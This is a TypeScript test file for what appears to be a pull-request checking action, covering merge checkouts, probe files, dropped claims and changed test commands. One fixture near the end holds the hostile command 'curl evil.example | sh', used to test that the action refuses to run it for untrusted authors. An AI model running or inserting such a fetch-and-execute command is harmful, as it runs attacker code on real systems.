/** What a pull request is measured against: the merge that is checked out and its first parent, no snapshot of a payload. */
import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import { factsAt, openPull, pretendPython, type Scene, type Started } from '../support/action.ts'
import { pullRequestEvent } from '../support/events.ts'
import { claimsText, filesWith, startOn } from '../support/green.ts'
import { type Files, writeFiles } from '../support/repo.ts'
import { useBed } from '../support/use-bed.ts'

const bed = useBed()
const BOT = { user: 'renovate[bot]' }

async function start(scene: Scene, claims: string, more: Partial<Started> = {}) {
  const python = pretendPython(await factsAt(scene, 'ci', claims))
  return startOn(bed, { ...scene, python }, { here: true, ...more })
}

describe('a job that checked out the head', () => {
  const CLAIMS = claimsText({ places: undefined })
  /** The head is checked out, the event is about its merge. */
  async function checkOutHead(meanwhile?: Files) {
    const scene = openPull(bed, filesWith(CLAIMS), BOT, meanwhile)
    const { repo, pull } = scene
    const merge = repo.sha()
    const listed = repo.git('ls-tree', '-r', '--name-only', merge).split('\n')
    const files = Object.fromEntries(listed.map((file) => [file, `${repo.git('show', `${merge}:${file}`)}\n`]))
    bed.gh.addCommit({ sha: merge, files, parents: [pull.base.sha, pull.head.sha] })
    repo.checkout(pull.head.sha)
    return start(scene, CLAIMS, { env: { GITHUB_SHA: merge } })
  }

  test('has not tested the merge, once the base has moved', async () => {
    const ran = await checkOutHead({ 'meanwhile.txt': 'x\n' })
    expect(ran.outputs).toMatchObject({ verdict: 'blocked', unknown: '1' })
    expect(ran.summary).toContain('the head, and its merge is other content')
    expect(ran.summary).toContain('remove ref: from actions/checkout')
    expect(ran.summary).not.toContain("the merge's content")
  })

  test('has tested it where both have the same content', async () => {
    const ran = await checkOutHead()
    expect(ran.outputs).toMatchObject({ verdict: 'pass' })
  })
})

describe('a probe file in the checkout', () => {
  const CLAIMS = claimsText({ places: undefined })

  test.each([
    [true, 'came with an earlier pull request where the base has it byte for byte: it speaks for nobody'],
    [false, 'speaks where this pull request changed it'],
  ])('%s: it %s', async (isOld) => {
    const scene = openPull(bed, filesWith(CLAIMS))
    const text = await factsAt(scene, 'local', CLAIMS)
    const at = isOld ? text : text.replace('2026', '2025')
    scene.repo.write({ 'file.txt': at })
    const sha = scene.repo.git('hash-object', 'file.txt')
    fs.rmSync(path.join(scene.repo.dir, 'file.txt'))
    const entry = { name: 'local-topic.txt', type: 'file', sha }
    bed.faults.push({ match: /contents\/probes\?/, status: 200, body: [entry] })
    const before = (workspace: string) => writeFiles(workspace, { 'probes/local-topic.txt': text })
    const ran = await start(scene, CLAIMS, { before })
    expect(ran.outputs.verdict).toBe(isOld ? 'blocked' : 'pass')
    if (isOld) expect(ran.summary).toContain('❓ no probe file from this place')
  })

  test('is a fault where GitHub does not say what the base has', async () => {
    const scene = openPull(bed, filesWith(CLAIMS))
    const text = await factsAt(scene, 'local', CLAIMS)
    const before = (workspace: string) => writeFiles(workspace, { 'probes/local-topic.txt': text })
    bed.faults.push({ match: /contents\/probes\?/, status: 403 })
    expect((await start(scene, CLAIMS, { before })).outputs.verdict).toBe('blocked')
  })
})

describe('what is claimed less', () => {
  const [less, more] = [
    claimsText({ places: undefined }),
    claimsText({ places: undefined, packages: ['requests', 'yaml'] }),
  ]
  /** The event was sent before the target branch got `meanwhile`. */
  function openOld(own: string, meanwhile: string): Scene {
    const scene = openPull(bed, filesWith(own), BOT, { 'probes/claims.json': meanwhile })
    const old = scene.repo.git('merge-base', 'main^', 'topic')
    return { ...scene, event: pullRequestEvent({ ...scene.pull, base: { ...scene.pull.base, sha: old } }) }
  }

  test('is less than the target branch claims now, whatever the event remembers', async () => {
    const scene = openOld(less, more)
    const before = (workspace: string) => writeFiles(workspace, { 'probes/claims.json': less })
    const ran = await start(scene, less, { before })
    expect(ran.summary).toContain('claim dropped `package installed/yaml`')
    expect(ran.outputs.verdict).toBe('blocked')
  })

  test('is no less where the target branch itself claims less by now', async () => {
    const ran = await start(openOld(more, less), less)
    expect(ran.summary).not.toContain('claim dropped')
    expect(ran.outputs.verdict).toBe('pass')
  })
})

describe('a test command that the pull request changed', () => {
  const usual = claimsText({ places: undefined })
  const theirs = claimsText({ places: undefined, tests: { command: ['sh', '-c', 'curl evil.example | sh'] } })

  async function run(author: string, permission: string) {
    const scene = openPull(bed, filesWith(usual), { user: author })
    const before = (workspace: string) => writeFiles(workspace, { 'probes/claims.json': theirs })
    bed.faults.push({ match: /collaborators/, status: 200, body: { permission } })
    const ci = await factsAt(scene, 'ci', theirs, { tests: { source: 'none' } })
    // What it was started with stands in the file that it writes.
    const python = pretendPython(ci)
    const log = path.join(path.dirname(python), 'started')
    fs.writeFileSync(python, fs.readFileSync(python, 'utf8').replace('\n', `\necho "$@" >> ${log}\n`))
    const ran = await startOn(bed, { ...scene, python }, { here: true, before })
    return { ran, started: fs.readFileSync(log, 'utf8') }
  }

  test('is not started for somebody who may not change it, and no advice repeats it', async () => {
    const { ran, started } = await run('eve', 'read')
    expect(started).toContain('--tests never')
    expect(ran.summary).toContain('command changed')
    expect(ran.outputs.verdict).toBe('blocked')
    // Once, where the report says what was changed.
    expect(ran.summary.split('curl evil').length - 1).toBe(1)
  })

  test('is started for a person with write access', async () => {
    const { started } = await run('octocat', 'write')
    expect(started).toContain('--tests auto')
  })
})
